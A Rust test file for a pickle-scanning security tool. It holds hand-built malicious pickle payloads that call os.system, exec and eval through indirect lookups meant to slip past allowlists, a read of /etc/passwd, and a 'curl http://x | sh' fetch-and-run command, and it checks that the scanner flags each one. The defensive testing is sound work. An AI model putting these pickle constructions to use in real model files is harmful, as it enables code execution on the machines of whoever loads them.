//! Judge behaviours built from small hand-assembled pickles (protocol 0: readable bytes).
#![allow(clippy::indexing_slicing, clippy::unwrap_used)]

use modelguard::Scanner;
use modelguard::report::{Severity, Status, Verdict};

fn scan(p: &[u8]) -> modelguard::report::FileReport {
    Scanner::default().scan_bytes("x.pkl", p)
}

#[test]
fn arguments_matter_for_file_reads() {
    let outside = scan(b"c__builtin__\nopen\n(S'/etc/passwd'\ntR.");
    let inside = scan(b"c__builtin__\nopen\n(S'notes.txt'\ntR.");
    assert_eq!(outside.max_severity(), Some(Severity::High), "{outside:?}");
    assert!(outside.findings[0].message.contains("outside the model"));
    assert_eq!(inside.max_severity(), Some(Severity::Medium), "{inside:?}");
}

#[test]
fn eval_is_judged_by_its_code() {
    // Inert code: no capability, but no serialiser writes a direct eval (docs/severity.md).
    let inert = scan(b"c__builtin__\neval\n(S'1+1'\ntR.");
    assert_eq!(inert.verdict, Verdict::Suspicious, "{inert:?}");
    assert_eq!(inert.max_severity(), Some(Severity::Medium));
    let evil = scan(b"c__builtin__\neval\n(S\"__import__('os').system('id')\"\ntR.");
    assert_eq!(evil.max_severity(), Some(Severity::Critical));
    assert!(
        evil.findings
            .iter()
            .any(|f| f.message.contains("os.system"))
    );
}

/// `getattr(len, '__self__')` is the builtins module: `exec` reached through it is judged
/// as `builtins.exec`, with its code parsed.
#[test]
fn builtin_self_is_the_module() {
    let r = scan(
        b"cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(cbuiltins\nlen\nS'__self__'\ntRS'exec'\ntR\
          (S\"__import__('os').system('echo hi')\"\ntR.",
    );
    assert_eq!(r.max_severity(), Some(Severity::Critical), "{r:?}");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "MG-PKL-PROC" && f.message.contains("os.system")),
        "{:?}",
        r.findings
    );
}

/// `sys.modules['os']`, `sys.modules.get('os')`, `os.__dict__['system']`,
/// `f.__globals__.get('system')` and `numpy.__builtins__['exec']` resolve to the module or
/// name they look up, so the call is judged as `os.system` (through exec's code, last).
#[test]
fn module_tables_resolve() {
    for p in [
        &b"cbuiltins\ngetattr\n(coperator\ngetitem\n(csys\nmodules\nS'os'\ntRS'system'\ntR(S'echo hi'\ntR."[..],
        b"cbuiltins\ngetattr\n(csys\nmodules.get\n(S'os'\ntRS'system'\ntR(S'echo hi'\ntR.",
        b"\x80\x04\x8c\x08operator\x8c\x07getitem\x93\x8c\x02os\x8c\x08__dict__\x93\x8c\x06system\x86R\x8c\x07echo hi\x85R.",
        b"cbuiltins\ngetattr\n(cos\n_wrap_close.__init__.__globals__\nS'get'\ntR(S'system'\ntR(S'echo hi'\ntR.",
        // numpy.__builtins__['exec'] (modelscan#330 reaches it through an allowlisted module)
        b"\x80\x04\x8c\x08operator\x8c\x07getitem\x93\x8c\x05numpy\x8c\x0c__builtins__\x93\x8c\x04exec\x86R\x8c\x1b__import__('os').system('')\x85R.",
    ] {
        let r = scan(p);
        assert!(
            r.findings.iter().any(|f| f.rule == "MG-PKL-PROC"
                && f.severity == Severity::Critical
                && f.message.contains("os.system")),
            "{:?}",
            r.findings
        );
    }
}

#[test]
fn unparseable_code_is_incomplete_not_safe() {
    let r = scan(b"c__builtin__\nexec\n(S'def ('\ntR.");
    assert_eq!(r.status, Status::Incomplete, "{r:?}");
    assert_ne!(r.verdict, Verdict::Safe);
}

#[test]
fn shell_pipelines_are_named() {
    let r = scan(b"cos\nsystem\n(S'curl http://x | sh'\ntR.");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "MG-PKL-PROC" && f.message.contains("shell pipeline")),
        "{r:?}"
    );
}

/// A pickle's verdict points are facts: they survive a JSON round trip and judge the same,
/// and only the rules apply the policy: `strict` raises unknown names, a user pattern
/// suppresses them and never silences a catalogued capability.
#[test]
fn pickle_facts_round_trip_and_rejudge_under_policy() {
    use modelguard::facts::Facts;
    use modelguard::judge::pickle::{Context, judge};
    use modelguard::policy::{GlobalPattern, Policy};

    let limits = modelguard::Limits::default();
    let ctx = Context {
        expects_persistent_ids: false,
        max_depth: limits.pickle.max_depth,
        code_limits: limits.code.clone(),
    };
    let strict = Policy {
        strict: true,
        ..Policy::default()
    };
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/fixtures/pickle");
    let mut judged = 0;
    let mut strict_differs = false;
    let mut suppressed = 0;
    for dir in ["benign", "malicious"] {
        let mut paths: Vec<_> = std::fs::read_dir(format!("{root}/{dir}"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "pkl"))
            .collect();
        paths.sort();
        for p in paths {
            let data = std::fs::read(&p).unwrap();
            let a = modelguard_pickle::analyze(&data, &limits.pickle);
            let f = Facts::Pickle(judge(&a, &ctx).facts);
            let back: Facts = serde_json::from_str(&serde_json::to_string(&f).unwrap()).unwrap();
            assert_eq!(back, f, "{}", p.display());
            let default = modelguard::rules::judge(&back, &Policy::default()).0;
            assert_eq!(
                default,
                modelguard::rules::judge(&f, &Policy::default()).0,
                "{}",
                p.display()
            );
            strict_differs |= modelguard::rules::judge(&back, &strict).0 != default;
            // Allow every module the pickle imports.
            let allow = Policy {
                allow_globals: a
                    .imports
                    .iter()
                    .filter_map(|i| i.module.as_ref())
                    .map(|m| GlobalPattern(format!("{m}:*")))
                    .collect(),
                ..Policy::default()
            };
            let allowed = modelguard::rules::judge(&back, &allow).0;
            for d in default.iter().filter(|d| d.severity >= Severity::High) {
                assert!(allowed.contains(d), "{}: {d:?} silenced", p.display());
            }
            for f in allowed.iter().filter(|f| f.rule == "MG-PKL-UNKNOWN") {
                assert!(f.suppressed.is_some(), "{}: {f:?}", p.display());
                suppressed += 1;
            }
            judged += 1;
        }
    }
    assert!(judged > 20, "{judged}");
    assert!(
        suppressed > 0,
        "no allowlisted name was reported as suppressed"
    );
    assert!(strict_differs, "strict never raised an unknown name");
}
